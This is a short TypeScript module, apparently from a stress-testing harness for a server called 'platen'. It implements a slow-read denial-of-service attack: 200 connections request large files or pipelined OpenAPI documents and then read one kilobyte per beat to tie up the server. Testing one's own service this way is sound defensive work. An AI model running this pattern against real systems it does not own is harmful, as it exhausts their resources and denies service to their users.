import { type Attack } from './attack'
import { openSlowly } from './open-slowly'

const connections = 200
/** Requests on one connection without waiting for answers. */
const pipelined = 16
const bytesPerBeat = 1024

/** Requests a large file or font, or many times the OpenAPI document, and reads a KiB a second. */
export const slowReaders: Attack = run => {
  const get = (path: string): string => `GET ${path} HTTP/1.1\r\nhost: platen\r\n\r\n`
  const { filePath, fontPath } = run.target
  const requests = [get(filePath), get(fontPath), get('/openapi.json').repeat(pipelined)]
  return openSlowly(run, connections, slot => ({
    request: [requests[slot % requests.length] ?? ''],
    // Nothing is read from the connection until a read is requested, and no more than a buffer then.
    beat: socket => {
      socket.read(bytesPerBeat)
    },
    reads: false,
  }))
}
